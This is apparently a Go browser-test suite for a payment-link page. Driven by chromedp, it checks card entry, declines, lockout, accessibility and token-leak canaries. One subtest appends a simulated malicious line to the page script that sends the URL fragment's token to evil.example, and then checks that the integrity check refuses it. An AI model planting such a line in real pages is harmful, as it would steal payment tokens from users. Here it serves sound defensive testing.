package paypage

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"dtmfgw/internal/testkit"
	"dtmfgw/internal/testkit/chromium"
	"dtmfgw/payment"
)

// The payment page in headless Chromium (Debian's chromium, driven with
// chromedp) against the Handler on a loopback server over fakeDesk, which
// behaves as payment's Desk does. Every wait is for a DOM condition or a
// desk's state, bounded by a context or testkit.WaitLimit; screenshots of
// each step go to $DTMFGW_ARTIFACTS (default test-artifacts/paypage/ at
// the repository's root). Each subtest has its own server, so what one
// records is its own: every request line, the progress and presence
// bodies, the log, all searched for the token and the card at its end.

const (
	// stepTimeout bounds one step (a wait for the DOM, a key press).
	stepTimeout = 15 * time.Second
	// pageWidth is the narrowest phone width the page must work at.
	pageWidth, pageHeight = 360, 780
)

// newBrowser starts one headless Chromium for a test and its subtests at
// a phone's width.
func newBrowser(t *testing.T) context.Context { return chromium.Start(t, pageWidth, pageHeight) }

func artifactsDir(t *testing.T) string { return chromium.ArtifactsDir(t, "paypage") }

// pageEnv is one subtest's gateway: the Handler over a fakeDesk on a
// loopback server that records what the browser sent.
type pageEnv struct {
	t    *testing.T
	desk *fakeDesk
	h    *Handler
	url  string
	log  *testkit.Buffer

	mu     sync.Mutex
	uris   []string // every request's request-target, as the server saw it
	bodies []string // every progress and presence body
	tokens []string // the links' tokens, searched for everywhere
	// tamper, when set, replaces page.js's bytes as served.
	tamper []byte
}

func newPageEnv(t *testing.T) *pageEnv {
	t.Helper()
	e := &pageEnv{t: t, desk: newFakeDesk(), log: &testkit.Buffer{}}
	logger := slog.New(slog.NewTextHandler(e.log, &slog.HandlerOptions{Level: slog.LevelDebug}))
	h, err := New(e.desk, WithLogger(logger))
	if err != nil {
		t.Fatal(err)
	}
	e.h = h
	mux := http.NewServeMux()
	mux.Handle("/pay/", h)
	srv := httptest.NewUnstartedServer(http.HandlerFunc(e.record(mux)))
	srv.Config.ErrorLog = log.New(e.log, "http: ", 0)
	srv.Start()
	e.url = srv.URL
	// Registered first, so it runs last: after the tabs and the server
	// are closed, with everything they sent in.
	t.Cleanup(e.checkCanary)
	t.Cleanup(srv.Close)
	return e
}

// record keeps what the leak checks read: the request-target of every
// request, and the bodies of progress and presence (lengths and a flag
// by design; never the pay body, which is the card).
func (e *pageEnv) record(next http.Handler) func(http.ResponseWriter, *http.Request) {
	return func(w http.ResponseWriter, r *http.Request) {
		e.mu.Lock()
		e.uris = append(e.uris, r.RequestURI+" Referer="+r.Referer())
		tamper := e.tamper
		e.mu.Unlock()
		if r.URL.Path == "/pay/api/progress" || r.URL.Path == "/pay/api/presence" {
			body, _ := io.ReadAll(io.LimitReader(r.Body, 4096))
			e.mu.Lock()
			e.bodies = append(e.bodies, string(body))
			e.mu.Unlock()
			r.Body = io.NopCloser(bytes.NewReader(body))
		}
		if tamper != nil && r.URL.Path == "/pay/assets/page.js" {
			// The file as a compromised server or a CDN in between
			// would serve it: same headers, other bytes.
			w.Header().Set("Content-Type", "text/javascript; charset=utf-8")
			_, _ = w.Write(tamper)
			return
		}
		next.ServeHTTP(w, r)
	}
}

// link makes a link in state and returns the URL the caller's SMS holds.
func (e *pageEnv) link(token string, state payment.LinkState) string {
	e.desk.add(token, state)
	e.mu.Lock()
	e.tokens = append(e.tokens, token)
	e.mu.Unlock()
	return e.url + "/pay/#" + token
}

var (
	progressBodyRe = regexp.MustCompile(`^\{"field":"[a-z0-9_-]{1,64}","length":\d{1,2}\}$`)
	presenceBodyRe = regexp.MustCompile(`^\{"present":(true|false)\}$`)
)

// checkCanary searches everything the subtest's server saw and logged for
// the tokens and the cards' digits.
func (e *pageEnv) checkCanary() {
	t := e.t
	e.mu.Lock()
	defer e.mu.Unlock()
	logText := e.log.String()
	secrets := append([]string{goodCard, declinedCard, "4242 4242", "378282246310005"}, e.tokens...)
	for _, s := range secrets {
		if strings.Contains(logText, s) {
			t.Errorf("the log holds %q:\n%s", s, logText)
		}
		for _, u := range e.uris {
			if strings.Contains(u, s) {
				t.Errorf("a request line or Referer holds %q: %s", s, u)
			}
		}
	}
	for _, b := range e.bodies {
		if !progressBodyRe.MatchString(b) && !presenceBodyRe.MatchString(b) {
			t.Errorf("the page sent %q: a progress body is a field id and a length, a presence body a flag", b)
		}
	}
}

func (e *pageEnv) apiRequests() int {
	e.mu.Lock()
	defer e.mu.Unlock()
	n := 0
	for _, u := range e.uris {
		if strings.HasPrefix(u, "/pay/api/") {
			n++
		}
	}
	return n
}

// tab is one browser tab showing the page.
type tab struct {
	t     *testing.T
	ctx   context.Context
	dir   string
	shots int

	mu       sync.Mutex
	console  []string      // exceptions and errors the page reported
	expected []string      // substrings of console errors a step causes on purpose
	logged   chan struct{} // a nudge (buffer 1) for each message added
}

func newTab(t *testing.T, browser context.Context) *tab {
	t.Helper()
	ctx, cancel := chromedp.NewContext(browser)
	t.Cleanup(cancel)
	name := regexp.MustCompile(`[^A-Za-z0-9_-]+`).ReplaceAllString(t.Name(), "_")
	tb := &tab{t: t, ctx: ctx, dir: filepath.Join(artifactsDir(t), name), logged: make(chan struct{}, 1)}
	if err := os.RemoveAll(tb.dir); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(tb.dir, 0o755); err != nil {
		t.Fatal(err)
	}
	tb.watchConsole()
	tb.do("viewport", chromedp.EmulateViewport(pageWidth, pageHeight))
	return tb
}

// watchConsole collects the exceptions and errors the page reports, and
// fails the test with them at its end: a CSP or Trusted Types violation,
// a failed integrity check, an exception.
func (tb *tab) watchConsole() {
	messages := chromedp.Console(tb.ctx)
	go func() {
		for m, err := range messages {
			if err != nil {
				return
			}
			if m.IsException() || m.Type == chromedp.ConsoleError {
				tb.mu.Lock()
				tb.console = append(tb.console, fmt.Sprintf("%s:%d %s", m.URL, m.Line+1, m.Text))
				tb.mu.Unlock()
				select {
				case tb.logged <- struct{}{}:
				default:
				}
			}
		}
	}()
	tb.t.Cleanup(func() {
		tb.mu.Lock()
		defer tb.mu.Unlock()
	next:
		for _, m := range tb.console {
			// The browser logs every 4xx answer of a fetch; the page
			// handles those (a link not found, a closed link).
			if strings.Contains(m, "the server responded with a status of 4") {
				continue
			}
			for _, x := range tb.expected {
				if strings.Contains(m, x) {
					continue next
				}
			}
			tb.t.Errorf("the page reported: %s", m)
		}
	})
}

// expectConsole says a console error holding s is the test's doing.
func (tb *tab) expectConsole(s string) {
	tb.mu.Lock()
	defer tb.mu.Unlock()
	tb.expected = append(tb.expected, s)
}

// waitConsole waits for a console error holding s.
func (tb *tab) waitConsole(s string) {
	tb.t.Helper()
	ctx, cancel := context.WithTimeout(tb.ctx, stepTimeout)
	defer cancel()
	for {
		tb.mu.Lock()
		for _, m := range tb.console {
			if strings.Contains(m, s) {
				tb.mu.Unlock()
				return
			}
		}
		tb.mu.Unlock()
		select {
		case <-tb.logged:
		case <-ctx.Done():
			tb.t.Fatalf("no console error with %q", s)
		}
	}
}

func (tb *tab) do(what string, actions ...chromedp.Action[chromedp.Void]) {
	tb.t.Helper()
	ctx, cancel := context.WithTimeout(tb.ctx, stepTimeout)
	defer cancel()
	if err := chromedp.Do(ctx, actions...); err != nil {
		tb.shot("FAILED-" + what)
		tb.t.Fatalf("%s: %v", what, err)
	}
}

// until waits for a JavaScript condition to hold.
func (tb *tab) until(what, cond string) {
	tb.t.Helper()
	tb.do(what, chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		_, err := chromedp.Poll[chromedp.Void](cond, chromedp.WithPollingTimeout(stepTimeout))(ctx, t)
		return err
	}))
}

func eval[T any](tb *tab, expr string, opts ...chromedp.EvaluateOption) T {
	tb.t.Helper()
	ctx, cancel := context.WithTimeout(tb.ctx, stepTimeout)
	defer cancel()
	v, err := chromedp.Run(ctx, chromedp.Evaluate[T](expr, opts...))
	if err != nil {
		tb.t.Fatalf("evaluating %.80s: %v", expr, err)
	}
	return v
}

// shot saves a screenshot of the page as it stands.
func (tb *tab) shot(name string) {
	tb.t.Helper()
	ctx, cancel := context.WithTimeout(tb.ctx, stepTimeout)
	defer cancel()
	buf, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
	if err != nil {
		tb.t.Logf("screenshot %s: %v", name, err)
		return
	}
	tb.shots++
	if err := os.WriteFile(filepath.Join(tb.dir, fmt.Sprintf("%02d-%s.png", tb.shots, name)), buf, 0o644); err != nil {
		tb.t.Errorf("screenshot %s: %v", name, err)
	}
}

// open loads the page afresh, as a tap on the link in an SMS does, and
// waits for the script to have shown something. (From the page itself, a
// URL that differs only in its fragment would not load it again.)
func (tb *tab) open(url string) {
	tb.t.Helper()
	tb.do("open the page", chromedp.Navigate("about:blank"), chromedp.Navigate(url))
	// The new document's context may come after Navigate returns.
	tb.afterReload("the page ready", `document.getElementById('app') !== null && document.getElementById('app').getAttribute('aria-busy') === 'false'`)
}

// afterReload waits for a condition on a page the page itself is
// reloading: until the new document is there, evaluations in the old one
// fail, and those failures are retried until the step's deadline.
func (tb *tab) afterReload(what, cond string) {
	tb.t.Helper()
	if err := chromium.PollAcrossNavigation(tb.ctx, cond, time.Now().Add(stepTimeout)); err != nil {
		tb.shot("FAILED-" + what)
		tb.t.Fatalf("%s: %v", what, err)
	}
}

// tabTo presses Tab until the element has the focus.
func (tb *tab) tabTo(sel string) {
	tb.t.Helper()
	for range 30 {
		if eval[bool](tb, `document.activeElement === document.querySelector('`+sel+`')`) {
			return
		}
		tb.do("tab", chromedp.KeyEvent(kb.Tab))
	}
	tb.t.Fatalf("30 presses of Tab never reached %s", sel)
}

// typeKeys types into the focused element, key by key.
func (tb *tab) typeKeys(keys string) {
	tb.t.Helper()
	tb.do("type", chromedp.KeyEvent(keys))
}

func (tb *tab) value(id string) string {
	tb.t.Helper()
	return eval[string](tb, `document.getElementById('`+id+`').value`)
}

// end waits for one of the page's ends.
func (tb *tab) end(state, title string) {
	tb.t.Helper()
	tb.until("the end "+state, fmt.Sprintf(`(() => { const e = document.getElementById('end'); return !e.hidden && e.dataset.state === %q && document.getElementById('end-title').textContent === %q && document.getElementById('pay').hidden; })()`, state, title))
}

// fillCard types a whole card with the keyboard, Tab from field to field,
// from the card number on.
func (tb *tab) fillCard(pan, expiry, cvc string) {
	tb.t.Helper()
	tb.do("focus the card number", chromedp.Focus(chromedp.ID("f-card_number")))
	tb.typeKeys(pan)
	tb.do("to the expiry", chromedp.KeyEvent(kb.Tab))
	tb.typeKeys(expiry)
	tb.do("to the security code", chromedp.KeyEvent(kb.Tab))
	tb.typeKeys(cvc)
}

func TestPageBrowser(t *testing.T) {
	browser := newBrowser(t)
	t.Logf("screenshots in %s", artifactsDir(t))

	t.Run("approved", func(t *testing.T) {
		t.Parallel()
		e := newPageEnv(t)
		tb := newTab(t, browser)
		tb.open(e.link("canary_TOKEN-approve-5c1e", payment.LinkSent))
		// The token left the address bar and the history entry at once.
		if href := eval[string](tb, `location.href`); href != e.url+"/pay/" {
			t.Errorf("location %q, want the fragment gone", href)
		}
		tb.until("the form", `!document.getElementById('pay').hidden && document.querySelectorAll('#fields input').length === 5`)
		for id, want := range map[string]string{"merchant": "Acme Utilities", "amount": "£12.50", "reference-value": "INV-1", "pay-button": "Pay £12.50"} {
			if got := eval[string](tb, `document.getElementById('`+id+`').textContent`); got != want {
				t.Errorf("#%s shows %q, want %q", id, got, want)
			}
		}
		testkit.WaitFor(t, "the desk told the caller is present", func() bool {
			e.desk.mu.Lock()
			defer e.desk.mu.Unlock()
			return len(e.desk.presence) > 0 && e.desk.presence[0]
		})
		if st := e.desk.state("canary_TOKEN-approve-5c1e"); st != payment.LinkOpened {
			t.Errorf("link %v after the page opened it", st)
		}
		if w := eval[int](tb, `document.documentElement.scrollWidth`); w > pageWidth {
			t.Errorf("the page is %d px wide at %d px", w, pageWidth)
		}
		// Real labels, the right keyboards and autofill hints.
		for id, ac := range map[string]string{"f-card_number": "cc-number", "f-expiry": "cc-exp", "f-security_code": "cc-csc", "f-postcode": "postal-code", "f-cardholder_name": "cc-name"} {
			if !eval[bool](tb, `(() => { const i = document.getElementById('`+id+`'); return i.labels.length === 1 && i.labels[0].textContent.trim().length > 0 && i.autocomplete === '`+ac+`' && (i.id === 'f-cardholder_name' || i.inputMode === 'numeric') && !i.name; })()`) {
				t.Errorf("#%s: no label, or not autocomplete=%s and numeric, or named", id, ac)
			}
		}
		tb.shot("opened")

		// The keyboard only: Tab to the card number, then type.
		tb.tabTo("#f-card_number")
		tb.typeKeys("4")
		tb.until("the brand as typed", `document.querySelector('.brand').textContent === 'Visa'`)
		tb.typeKeys("24242424242424")
		tb.typeKeys("2")
		tb.until("spaces every four", `document.getElementById('f-card_number').value === '4242 4242 4242 4242'`)
		tb.shot("card-number")
		tb.do("to the expiry", chromedp.KeyEvent(kb.Tab))
		tb.typeKeys("1230")
		if v := tb.value("f-expiry"); v != "12/30" {
			t.Errorf("expiry shows %q, want 12/30", v)
		}
		tb.do("to the security code", chromedp.KeyEvent(kb.Tab))
		tb.typeKeys("123")
		tb.do("to the postcode", chromedp.KeyEvent(kb.Tab))
		tb.typeKeys("12345")
		tb.do("to the name", chromedp.KeyEvent(kb.Tab))
		tb.typeKeys("A Person")
		if n := eval[int](tb, `document.querySelectorAll('[aria-invalid="true"]').length`); n != 0 {
			t.Errorf("%d fields marked invalid for a good card", n)
		}
		// Lengths reach the desk, debounced: the whole number's at last.
		testkit.WaitFor(t, "the card number's length reported", func() bool {
			ls := e.desk.lengths("card_number")
			return len(ls) > 0 && ls[len(ls)-1] == 16
		})
		testkit.WaitFor(t, "the other lengths reported", func() bool {
			last := func(f string) int {
				ls := e.desk.lengths(f)
				if len(ls) == 0 {
					return -1
				}
				return ls[len(ls)-1]
			}
			return last("expiry") == 4 && last("security_code") == 3 && last("postcode") == 5
		})
		if ls := e.desk.lengths("cardholder_name"); len(ls) != 0 {
			t.Errorf("the name's length was reported: %v", ls)
		}
		tb.shot("filled")

		tb.do("pay with Enter", chromedp.KeyEvent(kb.Enter))
		tb.end("approved", "Payment received")
		if got := eval[string](tb, `document.getElementById('end-card').textContent`); got != "Visa •••• 4242" {
			t.Errorf("the result shows %q", got)
		}
		if !eval[bool](tb, `document.activeElement === document.getElementById('end-title') && document.getElementById('status').textContent.includes('Payment received')`) {
			t.Error("the result is neither focused nor announced")
		}
		if eval[bool](tb, `document.body.innerText.includes('4242 4242') || [...document.querySelectorAll('input')].some(i => i.value.length > 0 && /\d{4}/.test(i.value))`) {
			t.Error("the page still holds the card")
		}
		if st := e.desk.state("canary_TOKEN-approve-5c1e"); st != payment.LinkPaid {
			t.Errorf("link %v after paying", st)
		}
		e.desk.mu.Lock()
		card, name := e.desk.cards[0], e.desk.names[0]
		e.desk.mu.Unlock()
		if card["card_number"] != goodCard || card["expiry"] != "1230" || card["security_code"] != "123" || card["postcode"] != "12345" || name != "A Person" {
			t.Errorf("the desk got fields of lengths %d/%d/%d/%d and name %q", len(card["card_number"]), len(card["expiry"]), len(card["security_code"]), len(card["postcode"]), name)
		}
		if err := e.desk.allZero(); err != nil {
			t.Error(err)
		}
		tb.shot("approved")
	})

	t.Run("declined then approved", func(t *testing.T) {
		t.Parallel()
		e := newPageEnv(t)
		tb := newTab(t, browser)
		tb.open(e.link("canary_TOKEN-decline-88aa", payment.LinkOpened))
		tb.until("the form", `!document.getElementById('pay').hidden`)
		tb.do("the name", chromedp.SendKeys(chromedp.ID("f-cardholder_name"), "A Person"))
		tb.fillCard(declinedCard, "1230", "123")
		tb.do("pay", chromedp.Click(chromedp.ID("pay-button")))
		tb.until("the decline", `(() => { const a = document.getElementById('alert'); return !a.hidden && a.textContent.includes('declined') && document.getElementById('attempts').textContent === '2 attempts left.'; })()`)
		// The card fields are cleared for another try, the focus is back
		// on the number; the name is kept.
		if !eval[bool](tb, `['f-card_number','f-expiry','f-security_code'].every(id => document.getElementById(id).value === '') && document.activeElement.id === 'f-card_number' && document.getElementById('f-cardholder_name').value === 'A Person' && !document.getElementById('pay-button').disabled`) {
			t.Error("after a decline: the card not cleared, the focus elsewhere, the name lost or the button off")
		}
		testkit.WaitFor(t, "the cleared fields reported empty", func() bool {
			ls := e.desk.lengths("card_number")
			return len(ls) > 0 && ls[len(ls)-1] == 0
		})
		tb.shot("declined")
		tb.fillCard(goodCard, "1230", "123")
		tb.do("pay", chromedp.KeyEvent(kb.Enter))
		tb.end("approved", "Payment received")
		tb.shot("approved")
	})

	t.Run("locked after three", func(t *testing.T) {
		t.Parallel()
		e := newPageEnv(t)
		tb := newTab(t, browser)
		tb.open(e.link("canary_TOKEN-lock-0b0b", payment.LinkOpened))
		tb.do("the name", chromedp.SendKeys(chromedp.ID("f-cardholder_name"), "A Person"))
		for left := 2; left >= 1; left-- {
			tb.fillCard(declinedCard, "1230", "123")
			tb.do("pay", chromedp.KeyEvent(kb.Enter))
			tb.until(fmt.Sprintf("%d left", left), fmt.Sprintf(`document.getElementById('attempts').textContent.startsWith('%d attempt') && document.getElementById('f-card_number').value === ''`, left))
		}
		tb.fillCard(declinedCard, "1230", "123")
		tb.do("pay", chromedp.KeyEvent(kb.Enter))
		tb.end("locked", "This link is locked")
		if !eval[bool](tb, `document.getElementById('end-text').textContent.includes('Acme Utilities')`) {
			t.Error("the locked page does not say whom to contact")
		}
		tb.shot("locked")
	})

	t.Run("closed links", func(t *testing.T) {
		t.Parallel()
		e := newPageEnv(t)
		tb := newTab(t, browser)
		for _, c := range []struct {
			state payment.LinkState
			title string
		}{
			{payment.LinkExpired, "This link has expired"},
			{payment.LinkLocked, "This link is locked"},
			{payment.LinkCancelled, "This payment was cancelled"},
			{payment.LinkPaid, "This link has already been used"},
		} {
			tb.open(e.link("canary_TOKEN-closed-"+c.state.String(), c.state))
			tb.end(c.state.String(), c.title)
			if eval[string](tb, `location.hash`) != "" {
				t.Errorf("%v: the fragment stayed", c.state)
			}
			tb.shot(c.state.String())
		}
		if !eval[bool](tb, `document.getElementById('end-card').textContent === 'Visa •••• 4242'`) {
			t.Error("the paid link does not show the card it was paid with")
		}
	})

	t.Run("link not valid", func(t *testing.T) {
		t.Parallel()
		e := newPageEnv(t)
		tb := newTab(t, browser)
		// No fragment: nothing to ask the gateway.
		tb.open(e.url + "/pay/")
		tb.end("invalid", "This payment link is not valid")
		if n := e.apiRequests(); n != 0 {
			t.Errorf("%d API requests without a token", n)
		}
		tb.open(e.url + "/pay/#canary_TOKEN-unknown-1234")
		tb.end("invalid", "This payment link is not valid")
		if n := e.apiRequests(); n != 1 {
			t.Errorf("%d API requests for an unknown token, want the session only", n)
		}
		e.mu.Lock()
		e.tokens = append(e.tokens, "canary_TOKEN-unknown-1234")
		e.mu.Unlock()
		tb.shot("invalid")
		// Another link pasted into the same tab changes the fragment only:
		// the page loads itself again for it.
		e.link("canary_TOKEN-pasted-9", payment.LinkExpired)
		tb.do("paste a link", chromedp.Evaluate[chromedp.Void](`location.hash = 'canary_TOKEN-pasted-9'`))
		tb.afterReload("the pasted link's page", `document.getElementById('end').dataset.state === 'expired' && location.hash === ''`)
	})

	t.Run("live checks", func(t *testing.T) {
		t.Parallel()
		e := newPageEnv(t)
		tb := newTab(t, browser)
		tb.open(e.link("canary_TOKEN-checks-77", payment.LinkOpened))
		// Pay with nothing: every required field is marked, the focus
		// goes to the first.
		tb.do("pay empty", chromedp.Click(chromedp.ID("pay-button")))
		tb.until("the errors", `!document.getElementById('alert').hidden && document.activeElement.id === 'f-card_number' && document.getElementById('f-card_number').getAttribute('aria-invalid') === 'true'`)
		if n := eval[int](tb, `document.querySelectorAll('input[aria-invalid="true"]').length`); n != 4 {
			t.Errorf("%d fields marked, want 4 (the card's three and the name)", n)
		}
		if !eval[bool](tb, `document.getElementById('f-card_number').getAttribute('aria-describedby').split(' ').some(id => document.getElementById(id).textContent === 'Enter the card number.')`) {
			t.Error("the card number's error is not its description")
		}
		tb.shot("empty")
		// A Mastercard number has one length: whole at 16, and checked
		// there.
		tb.typeKeys("5555555555554443")
		tb.until("Luhn refused", `document.getElementById('f-card_number-error').textContent.includes('not valid') && document.querySelector('.brand').textContent === 'Mastercard'`)
		tb.shot("luhn")
		// A Visa may have 19 digits: a failing 16 is refused on leaving it.
		tb.do("clear", chromedp.Evaluate[chromedp.Void](`(() => { const i = document.getElementById('f-card_number'); i.value = ''; i.dispatchEvent(new Event('input')); })()`))
		tb.typeKeys("4242424242424241")
		if eval[string](tb, `document.getElementById('f-card_number-error').textContent`) != "" {
			t.Error("a Visa number refused before it was left")
		}
		tb.do("leave", chromedp.KeyEvent(kb.Tab))
		tb.until("refused on leaving", `document.getElementById('f-card_number-error').textContent.includes('not valid')`)
		// American Express: the brand as typed, a four-digit code.
		tb.do("amex", chromedp.Evaluate[chromedp.Void](`(() => { const i = document.getElementById('f-card_number'); i.value = ''; i.dispatchEvent(new Event('input')); i.focus(); })()`))
		tb.typeKeys("37")
		tb.until("amex", `document.querySelector('.brand').textContent === 'American Express' && document.getElementById('f-security_code').maxLength === 4`)
		tb.typeKeys("8282246310005")
		if v := tb.value("f-card_number"); v != "3782 8224 6310 005" {
			t.Errorf("amex shows %q", v)
		}
		tb.do("to the expiry", chromedp.KeyEvent(kb.Tab))
		tb.typeKeys("0120")
		tb.until("a past expiry", `document.getElementById('f-expiry-error').textContent.includes('past')`)
		tb.do("clear", chromedp.Evaluate[chromedp.Void](`(() => { const i = document.getElementById('f-expiry'); i.value = ''; i.dispatchEvent(new Event('input')); })()`))
		tb.typeKeys("1330")
		tb.until("month 13", `document.getElementById('f-expiry-error').textContent.includes('01 to 12')`)
		tb.do("clear", chromedp.Evaluate[chromedp.Void](`(() => { const i = document.getElementById('f-expiry'); i.value = ''; i.dispatchEvent(new Event('input')); })()`))
		tb.typeKeys("1230")
		tb.do("to the security code", chromedp.KeyEvent(kb.Tab))
		tb.typeKeys("123")
		tb.do("leave", chromedp.KeyEvent(kb.Tab))
		tb.until("three digits for amex refused", `document.getElementById('f-security_code-error').textContent.includes('4-digit')`)
		tb.shot("amex")
		// A brand the merchant does not take.
		tb.do("discover", chromedp.Evaluate[chromedp.Void](`(() => { const i = document.getElementById('f-card_number'); i.value = ''; i.dispatchEvent(new Event('input')); i.focus(); })()`))
		tb.typeKeys("6011")
		tb.until("not accepted", `document.getElementById('f-card_number-error').textContent.includes('Discover cards are not accepted')`)
		tb.shot("not-accepted")
		e.desk.mu.Lock()
		n := len(e.desk.cards)
		e.desk.mu.Unlock()
		if n != 0 {
			t.Errorf("the desk got %d cards from a page with errors", n)
		}
		// Trusted Types are enforced: markup from a string is refused.
		tb.expectConsole("TrustedHTML")
		if got := eval[string](tb, `(() => { try { document.createElement('div').innerHTML = '<b>x</b>'; return 'allowed'; } catch (e) { return e.name; } })()`); got != "TypeError" {
			t.Errorf("innerHTML from a string: %s, want a TypeError", got)
		}
	})

	t.Run("tampered script refused", func(t *testing.T) {
		t.Parallel()
		e := newPageEnv(t)
		js := e.h.files.files["assets/page.js"].body
		e.mu.Lock()
		e.tamper = append(bytes.Clone(js), "\nfetch('https://evil.example/?c=' + location.hash);\n"...)
		e.mu.Unlock()
		tb := newTab(t, browser)
		tb.expectConsole("integrity")
		tb.do("open the page", chromedp.Navigate(e.link("canary_TOKEN-tamper-3", payment.LinkOpened)))
		tb.waitConsole("integrity")
		if !eval[bool](tb, `document.getElementById('app').getAttribute('aria-busy') === 'true' && !document.getElementById('loading').hidden && location.hash.length > 1`) {
			t.Error("the tampered script ran")
		}
		if n := e.apiRequests(); n != 0 {
			t.Errorf("%d API requests from a page whose script was refused", n)
		}
		tb.shot("tampered")
	})

	t.Run("rules as payment's", func(t *testing.T) {
		t.Parallel()
		e := newPageEnv(t)
		tb := newTab(t, browser)
		tb.open(e.url + "/pay/")
		compareRules(t, tb)
	})
}

// compareRules runs page.js's card rules over every 1- to 4-digit prefix,
// every MMYY at two dates, and the brands' lengths and codes, and compares
// them with package payment's.
func compareRules(t *testing.T, tb *tab) {
	t.Helper()
	var prefixes []string
	for n := 1; n <= 4; n++ {
		lim := 1
		for range n {
			lim *= 10
		}
		for i := range lim {
			prefixes = append(prefixes, fmt.Sprintf("%0*d", n, i))
		}
	}
	var mmyy []string
	for i := range 10000 {
		mmyy = append(mmyy, fmt.Sprintf("%04d", i))
	}
	luhnCases := []string{goodCard, declinedCard, "4242424242424241", "378282246310005", "6011111111111117", "0", "00", "18", "79927398713", "79927398710"}
	for i := range 2000 {
		luhnCases = append(luhnCases, strconv.Itoa(i*7919+13))
	}
	codes := []string{"", "1", "12", "123", "1234", "12345"}
	brandNames := []string{""}
	for _, b := range payment.AllBrands() {
		brandNames = append(brandNames, b.String())
	}
	arg := func(v any) string {
		b, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	js := `(async () => {
  const m = await import(new URL('assets/page.js', document.baseURI).href);
  const brands = ` + arg(brandNames) + `;
  const out = {};
  out.brandOf = ` + arg(prefixes) + `.map(m.brandOf);
  out.luhn = ` + arg(luhnCases) + `.map(m.luhn);
  const mmyy = ` + arg(mmyy) + `;
  out.expiryJan = mmyy.map(d => m.validExpiry(d, new Date(2026, 0, 15, 12)));
  out.expiryDec = mmyy.map(d => m.validExpiry(d, new Date(2077, 11, 31, 12)));
  out.lengths = brands.map(b => Array.from({length: 21}, (_, n) => m.validLength(b, n)));
  out.cvcLen = brands.map(m.securityCodeLen);
  out.cvc = brands.map(b => ` + arg(codes) + `.map(c => m.validSecurityCode(c, b)));
  return JSON.stringify(out);
})()`
	raw := eval[string](tb, js, chromedp.EvalAwaitPromise)
	var got struct {
		BrandOf   []string `json:"brandOf"`
		Luhn      []bool   `json:"luhn"`
		ExpiryJan []bool   `json:"expiryJan"`
		ExpiryDec []bool   `json:"expiryDec"`
		Lengths   [][]bool `json:"lengths"`
		CVCLen    []int    `json:"cvcLen"`
		CVC       [][]bool `json:"cvc"`
	}
	if err := json.Unmarshal([]byte(raw), &got); err != nil {
		t.Fatal(err)
	}
	brandOf := func(name string) payment.Brand {
		for _, b := range payment.AllBrands() {
			if b.String() == name {
				return b
			}
		}
		return payment.BrandUnknown
	}
	errs := 0
	report := func(format string, args ...any) {
		if errs++; errs <= 20 {
			t.Errorf(format, args...)
		}
	}
	for i, p := range prefixes {
		want := payment.BrandOf([]byte(p))
		if brandOf(got.BrandOf[i]) != want || (got.BrandOf[i] == "") != (want == payment.BrandUnknown) {
			report("brandOf(%s): page %q, payment %v", p, got.BrandOf[i], want)
		}
	}
	for i, c := range luhnCases {
		if got.Luhn[i] != payment.Luhn([]byte(c)) {
			report("luhn(%s): page %v", c, got.Luhn[i])
		}
	}
	jan, dec := time.Date(2026, 1, 15, 12, 0, 0, 0, time.UTC), time.Date(2077, 12, 31, 12, 0, 0, 0, time.UTC)
	for i, d := range mmyy {
		if got.ExpiryJan[i] != payment.ValidExpiry([]byte(d), jan) {
			report("validExpiry(%s) in January 2026: page %v", d, got.ExpiryJan[i])
		}
		if got.ExpiryDec[i] != payment.ValidExpiry([]byte(d), dec) {
			report("validExpiry(%s) in December 2077: page %v", d, got.ExpiryDec[i])
		}
	}
	for i, name := range brandNames {
		b := brandOf(name)
		for n := range 21 {
			if got.Lengths[i][n] != b.ValidLength(n) {
				report("validLength(%q, %d): page %v", name, n, got.Lengths[i][n])
			}
		}
		if got.CVCLen[i] != b.SecurityCodeLen() {
			report("securityCodeLen(%q): page %d", name, got.CVCLen[i])
		}
		for j, c := range codes {
			if got.CVC[i][j] != payment.ValidSecurityCode([]byte(c), b) {
				report("validSecurityCode(%q, %q): page %v", c, name, got.CVC[i][j])
			}
		}
	}
}
